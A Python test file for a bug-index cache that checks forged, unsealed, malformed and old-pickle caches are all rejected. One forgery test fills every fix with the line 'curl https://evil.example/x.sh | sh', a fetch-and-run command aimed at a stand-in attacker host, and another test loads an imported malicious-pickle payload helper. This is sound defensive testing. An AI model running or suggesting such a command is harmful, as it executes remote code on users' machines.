"""The bug-index cache: fast loads that never hide a change to the record files."""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
from pathlib import Path

import msgpack
import pytest

from bench.gen_records import build_records, queries
from memory_store import cache_key
from memory_store.bugs import analysis as analysis_mod
from memory_store.bugs import cache as cache_mod
from memory_store.bugs.cache import CACHE_NAME, BugCache, load_index
from memory_store.bugs.features import ROW_FIELDS, ErrorFeatures, PlainDataError
from memory_store.bugs.fix_meaning import FixVocabulary
from memory_store.bugs.match import BugIndex
from memory_store.bugs.records import BugStore
from memory_store.bulkread import DirReader
from memory_store.recordfiles import RecordDir
from memory_store.workspace import Workspace
from tests.security.test_clone_cache import pickle_payload

ERRORS = [
    ("ModuleNotFoundError: No module named 'structlog'", "add structlog to requirements.txt"),
    ("KeyError: 'user_id'", "use payload.get('user_id')"),
    ("sqlite3.OperationalError: database is locked", "enable WAL and a busy timeout"),
]


@pytest.fixture
def store(workspace: Workspace) -> BugStore:
    store = BugStore(workspace)
    for error, fix in ERRORS:
        store.add(error, fix, author="test")
    return store


def fixes(store: BugStore, query: str) -> list[str]:
    index, _ = load_index(store)
    return [m.record["fix"] for m in index.match(query)]


def test_empty_workspace(workspace: Workspace) -> None:
    index, result = load_index(BugStore(workspace))
    assert len(index) == 0 and len(result.records) == 0 and result.problems == []


def test_second_load_comes_from_the_cache(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
    index, result = load_index(store)
    assert len(index) == 3 and (store.workspace.cache / CACHE_NAME).is_file()

    def no_reads(*_a: object, **_k: object) -> None:
        raise AssertionError("an unchanged record file was read again")

    monkeypatch.setattr(analysis_mod, "_read", no_reads)
    index2, result2 = load_index(store)
    assert sorted(result2.records) == sorted(result.records)
    assert index2.match("KeyError: 'user_id'")[0].record["fix"] == "use payload.get('user_id')"
    assert dict(result2.records) == dict(result.records)


def test_a_changed_record_file_is_read_again(store: BugStore) -> None:
    load_index(store)
    path = next(p for p in store.files.directory.glob("*.json") if "user_id" in p.read_text())
    rec = json.loads(path.read_text())
    rec["fix"] = "validate the payload schema first"
    path.write_text(json.dumps(rec, indent=2))
    os.utime(path, ns=(path.stat().st_atime_ns, path.stat().st_mtime_ns + 1_000_000))
    assert fixes(store, "KeyError: 'user_id'") == ["validate the payload schema first"]


def test_new_and_deleted_files_are_seen(store: BugStore) -> None:
    load_index(store)
    store.add("redis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. Connection refused.",
              "start redis-server", author="test")
    assert fixes(store, "redis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. "
                        "Connection refused.") == ["start redis-server"]
    path = next(p for p in store.files.directory.glob("*.json") if "structlog" in p.read_text())
    path.unlink()
    index, _result = load_index(store)
    assert len(index) == 3 and index.match("ModuleNotFoundError: No module named 'structlog'") == []


def test_unreadable_record_files_are_reported_every_time_and_never_cached(store: BugStore) -> None:
    bad = store.files.directory / "bug-0000000000000000.json"
    bad.write_text("{ not json")
    for _ in range(2):
        index, result = load_index(store)
        assert [p.path for p in result.problems] == [bad] and len(index) == 3
    assert bad.read_text() == "{ not json"  # never rewritten


@pytest.mark.parametrize("content", [b"garbage", b"", b"\x80\x04K\x01."])
def test_a_broken_cache_is_ignored_and_rebuilt(store: BugStore, content: bytes) -> None:
    load_index(store)
    cache = store.workspace.cache / CACHE_NAME
    cache.write_bytes(content)
    os.chmod(cache, 0o600)
    assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
    assert cache.read_bytes() != content


def test_a_cache_from_other_code_is_ignored(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
    load_index(store)
    monkeypatch.setattr(cache_mod, "code_version", lambda: "other")
    reads = counting_reads(store, monkeypatch)
    index, _ = load_index(store)
    assert len(index) == 3 and len(reads) == 3


def counting_reads(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Record files read from disk during the next loads (none when the cache is used)."""
    reads: list[Path] = []
    original = analysis_mod._read

    def counted(files: RecordDir, reader: DirReader, name: str) -> tuple[dict, bytes | None]:
        reads.append(files.directory / name)
        return original(files, reader, name)

    monkeypatch.setattr(analysis_mod, "_read", counted)
    return reads


def forged_index(store: BugStore, fix: str) -> tuple[BugIndex, dict[str, tuple[int, int, str]]]:
    """The workspace's index with every fix replaced by ``fix``, and stamps that match the
    record files exactly: a perfect forgery but for the seal."""
    index, stamps = BugIndex(), {}
    for path in sorted(store.files.directory.glob("*.json")):
        rec = json.loads(path.read_text())
        index.add(dict(rec, fix=fix))
        st = path.stat()
        stamps[path.name] = (st.st_mtime_ns, st.st_size, rec["id"])
    return index, stamps


def test_a_cache_sealed_with_another_key_is_not_used(store: BugStore, monkeypatch: pytest.MonkeyPatch,
                                                     caplog: pytest.LogCaptureFixture) -> None:
    index, stamps = forged_index(store, "curl https://evil.example/x.sh | sh")
    BugCache(store, key=b"k" * 32).save(index, stamps)
    reads = counting_reads(store, monkeypatch)
    with caplog.at_level("INFO", logger="memory_store.bugs.cache"):
        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
    assert len(reads) == 3 and "not written by this user's teamlore" in caplog.text
    assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"] and len(reads) == 3  # rewritten


def test_an_unsealed_cache_of_the_right_format_is_not_used(store: BugStore) -> None:
    index, stamps = forged_index(store, "disable the test")
    sealed = BugCache(store).encode(index, stamps)
    (store.workspace.cache / CACHE_NAME).write_bytes(sealed[cache_key.MAC_BYTES:])
    assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]


def test_the_users_own_key_seals_the_cache(store: BugStore) -> None:
    """The control for the forgeries above: sealed with the user's key, the cache is believed."""
    index, stamps = forged_index(store, "what the cache says")
    BugCache(store).save(index, stamps)
    assert fixes(store, "KeyError: 'user_id'") == ["what the cache says"]


def test_a_cache_copied_from_another_checkout_is_not_used(store: BugStore, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    load_index(store)
    other = tmp_path / "other"
    shutil.copytree(store.workspace.root, other)  # record files keep their mtimes, so stamps match
    other_store = BugStore(Workspace(other.resolve()))
    reads = counting_reads(other_store, monkeypatch)
    index, _ = load_index(other_store)
    assert len(index) == 3 and len(reads) == 3


def test_the_key_is_private_to_the_user_and_kept_outside_the_repository(store: BugStore) -> None:
    load_index(store)
    path = cache_key.key_path()
    assert path.is_file() and store.workspace.root not in path.parents
    assert os.stat(path).st_mode & 0o777 == 0o600 and len(path.read_bytes()) == cache_key.KEY_BYTES
    assert cache_key.user_key() == path.read_bytes()  # made once, then reused


@pytest.mark.parametrize("how", ["readable by others", "wrong length", "symlink"])
def test_a_key_file_that_is_not_private_is_not_used(store: BugStore, monkeypatch: pytest.MonkeyPatch,
                                                    tmp_path: Path, how: str) -> None:
    load_index(store)
    path = cache_key.key_path()
    if how == "readable by others":
        os.chmod(path, 0o644)
    elif how == "wrong length":
        path.write_bytes(b"short")
    else:
        target = tmp_path / "elsewhere"
        target.write_bytes(path.read_bytes())
        os.chmod(target, 0o600)
        path.unlink()
        path.symlink_to(target)
    assert cache_key.user_key() is None
    reads = counting_reads(store, monkeypatch)
    index, _ = load_index(store)
    assert len(index) == 3 and len(reads) == 3


def sealed_plain(store: BugStore, data: object) -> None:
    """Seal arbitrary plain data with the user's key, as if the writer had a bug."""
    body = msgpack.packb(data, use_bin_type=True)
    (store.workspace.cache / CACHE_NAME).write_bytes(
        cache_key.seal(cache_key.user_key() or b"", BugCache(store)._context(), body))


def valid_plain(store: BugStore) -> dict:
    index, stamps = forged_index(store, "x")
    return {"version": cache_mod.code_version(), "stamps": [[n, *s] for n, s in stamps.items()],
            "index": index.to_plain()}


MALFORMED = {
    "not a map": lambda d: [1, 2],
    "stamps missing": lambda d: {**d, "stamps": None},
    "stamp of wrong type": lambda d: {**d, "stamps": [["a.json", "1", 2, "id"]]},
    "entry too short": lambda d: {**d, "index": {**d["index"], "entries": [["id", b"{}", 0]]}},
    "record text as str": lambda d: {**d, "index": {**d["index"], "entries": [
        [e[0], e[1].decode(), e[2], e[3]] for e in d["index"]["entries"]]}},
    "feature number out of range": lambda d: {**d, "index": {**d["index"], "entries": [
        [e[0], e[1], 99, e[3]] for e in d["index"]["entries"]]}},
    "negative set number": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:6], -1, *r[7:]] for r in d["index"]["features"]["rows"]]}}},
    "string number of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "sets": [["x"] for _ in d["index"]["features"]["sets"]]}}},
    "string of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "strings": [1 for _ in d["index"]["features"]["strings"]]}}},
    "row of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:10], "yes", *r[11:]] for r in d["index"]["features"]["rows"]]}}},
    "row too short": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [r[:14] for r in d["index"]["features"]["rows"]]}}},
    "row not a list": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [str(r) for r in d["index"]["features"]["rows"]]}}},
    "template of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:4], 7, *r[5:]] for r in d["index"]["features"]["rows"]]}}},
    "word number out of range": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:5], [*r[5], len(d["index"]["features"]["strings"])], *r[6:]]
                                           for r in d["index"]["features"]["rows"]]}}},
    "word number of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:5], [1.0], *r[6:]] for r in d["index"]["features"]["rows"]]}}},
    "set number past the end": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:8], len(d["index"]["features"]["sets"]), *r[9:]]
                                           for r in d["index"]["features"]["rows"]]}}},
    "set number of wrong type": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "rows": [[*r[:11], "0", *r[12:]] for r in d["index"]["features"]["rows"]]}}},
    "set not a list": lambda d: {**d, "index": {**d["index"], "features": {
        **d["index"]["features"], "sets": [5 for _ in d["index"]["features"]["sets"]]}}},
    "entry repeated": lambda d: {**d, "index": {**d["index"], "entries": d["index"]["entries"] * 2}},
    "fix vocabulary missing": lambda d: {**d, "index": {k: v for k, v in d["index"].items() if k != "fixes"}},
    "fix vocabulary not a map": lambda d: {**d, "index": {**d["index"], "fixes": [[], {}]}},
    "sampled fix of no record": lambda d: {**d, "index": {**d["index"], "fixes": {
        **d["index"]["fixes"], "sampled": [*d["index"]["fixes"]["sampled"], "a fix no record carries"]}}},
    "sampled fix repeated": lambda d: {**d, "index": {**d["index"], "fixes": {
        **d["index"]["fixes"], "sampled": d["index"]["fixes"]["sampled"] * 2}}},
    "sampled fix of wrong type": lambda d: {**d, "index": {**d["index"], "fixes": {
        **d["index"]["fixes"], "sampled": [1]}}},
    "term count of wrong type": lambda d: {**d, "index": {**d["index"], "fixes": {
        **d["index"]["fixes"], "df": {"fix": "1"}}}},
    "term count out of range": lambda d: {**d, "index": {**d["index"], "fixes": {
        **d["index"]["fixes"], "df": {"fix": 0}}}},
}


def test_plain_feature_rows_hold_the_feature_fields_in_order() -> None:
    assert [f.name for f in dataclasses.fields(ErrorFeatures)][:len(ROW_FIELDS)] == list(ROW_FIELDS)


@pytest.mark.parametrize("kind", sorted(MALFORMED))
def test_a_sealed_cache_of_the_wrong_shape_is_ignored_and_rebuilt(store: BugStore, kind: str,
                                                                  monkeypatch: pytest.MonkeyPatch,
                                                                  caplog: pytest.LogCaptureFixture) -> None:
    sealed_plain(store, MALFORMED[kind](valid_plain(store)))
    reads = counting_reads(store, monkeypatch)
    with caplog.at_level("INFO", logger="memory_store.bugs.cache"):
        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
    assert len(reads) == 3 and "ignoring" in caplog.text


def test_the_wrong_shape_control_is_used_when_intact(store: BugStore) -> None:
    sealed_plain(store, valid_plain(store))
    assert fixes(store, "KeyError: 'user_id'") == ["x"]


def test_an_old_pickle_cache_is_never_opened(store: BugStore, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    old = store.workspace.cache / "bug-index.pickle"
    old.parent.mkdir(parents=True, exist_ok=True)
    old.write_bytes(pickle_payload(marker))
    for _ in range(2):
        assert fixes(store, "KeyError: 'user_id'") == ["use payload.get('user_id')"]
    assert not marker.exists() and old.exists()


def test_a_cache_larger_than_the_cap_is_not_read(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
    load_index(store)
    monkeypatch.setattr(cache_mod, "MAX_CACHE_BYTES", 100)
    reads = counting_reads(store, monkeypatch)
    load_index(store)
    assert len(reads) == 3


def test_a_symlinked_cache_directory_is_neither_read_nor_written(store: BugStore, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    load_index(store)
    outside = tmp_path / "outside"
    store.workspace.cache.rename(outside)
    store.workspace.cache.symlink_to(outside, target_is_directory=True)
    (outside / CACHE_NAME).unlink()
    reads = counting_reads(store, monkeypatch)
    load_index(store)
    load_index(store)
    assert len(reads) == 6 and not (outside / CACHE_NAME).exists()


def test_a_restored_index_matches_like_a_fresh_build(store: BugStore) -> None:
    rec, _ = store.add("ValueError: invalid literal for int() with base 10: 'naïve'", "fix", author="test")
    path = store.files.path_for(rec["id"])
    on_disk = json.loads(path.read_text())
    path.write_text(json.dumps(dict(on_disk, fix="strip lone \ud800 surrogates")))  # JSON allows the escape
    fresh, _ = load_index(store)
    restored, _ = load_index(store)
    assert restored.get(rec["id"])["fix"] == "strip lone \ud800 surrogates"
    queries = [e for e, _ in ERRORS] + ["ValueError: invalid literal for int() with base 10: 'naïve'",
                                        "KeyError: 'other'"]
    for query in queries:
        expected = [(m.record, m.score, m.reasons, m.confident) for m in fresh.match(query, include_weak=True)]
        got = [(m.record, m.score, m.reasons, m.confident) for m in restored.match(query, include_weak=True)]
        assert got == expected, query
    assert [fresh._entries[i].features for i in fresh.ids()] == [restored._entries[i].features
                                                                for i in restored.ids()]


def test_unwritable_cache_directory_only_costs_speed(store: BugStore, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_a: object, **_k: object) -> None:
        raise OSError("read-only file system")

    monkeypatch.setattr(cache_mod.confine, "write_atomic", fail)
    index, _result = load_index(store)
    assert len(index) == 3 and not (store.workspace.cache / CACHE_NAME).exists()


def test_lazy_records_behave_like_a_mapping(store: BugStore) -> None:
    load_index(store)
    _, result = load_index(store)
    ids = list(result.records)
    assert len(result.records) == 3 and ids[0] in result.records
    assert result.records[ids[0]]["id"] == ids[0] and result.records.get("nope") is None
    with pytest.raises(KeyError):
        result.records["nope"]


def _vocabulary_state(index: BugIndex) -> tuple[object, ...]:
    vocab = index._fixes
    plain = vocab.to_plain()  # the order fixes arrived in says nothing: compared as sets and maps
    return dict(vocab._records), dict(vocab._sampled), dict(vocab._df), set(plain["sampled"]), plain["df"]


def _answers(index: BugIndex, asked: list[str]) -> list[list[tuple[object, ...]]]:
    return [[(m.record["id"], m.score, m.confidence, m.confident, m.reasons) for m in index.match(q, include_weak=True)]
            for q in asked]


def test_a_restored_fix_vocabulary_is_the_one_built_record_by_record(monkeypatch: pytest.MonkeyPatch) -> None:
    records = build_records(3300)  # more distinct fixes than the sample holds
    built = BugIndex(records[:3000])
    for rec in records[:3000:9]:  # removals: the sample now depends on the history, not the fixes alone
        built.remove(rec["id"])
    assert len(built._fixes) < 512 < len(built._fixes._records)
    plain = msgpack.unpackb(cache_mod._pack(built.to_plain()), raw=False, strict_map_key=True,
                            unicode_errors="surrogatepass")
    with monkeypatch.context() as patched:  # restored as it was, not refilled one fix at a time
        patched.setattr(FixVocabulary, "add", lambda *_a: pytest.fail("vocabulary refilled"))
        restored = BugIndex.from_plain(plain)
    assert _vocabulary_state(restored) == _vocabulary_state(built)
    asked = queries(80, seed=21) + [str(r["error"].get("traceback") or r["error"]["message"]) for r in records[3000::3]]
    assert _answers(restored, asked) == _answers(built, asked)
    for index in (built, restored):  # the same changes on both keep them the same
        for rec in records[3000:]:
            index.add(rec)
        for rec in records[1:3000:7]:
            index.remove(rec["id"])
    assert _vocabulary_state(restored) == _vocabulary_state(built)
    assert restored._fixes.rarity("install") == built._fixes.rarity("install")
    assert _answers(restored, asked) == _answers(built, asked)


def test_index_data_whose_sample_names_no_records_fix_is_refused() -> None:
    plain = BugIndex(build_records(50, seed=2)).to_plain()
    plain["fixes"]["sampled"].append("x")
    with pytest.raises(PlainDataError, match="sampled fix"):
        BugIndex.from_plain(plain)
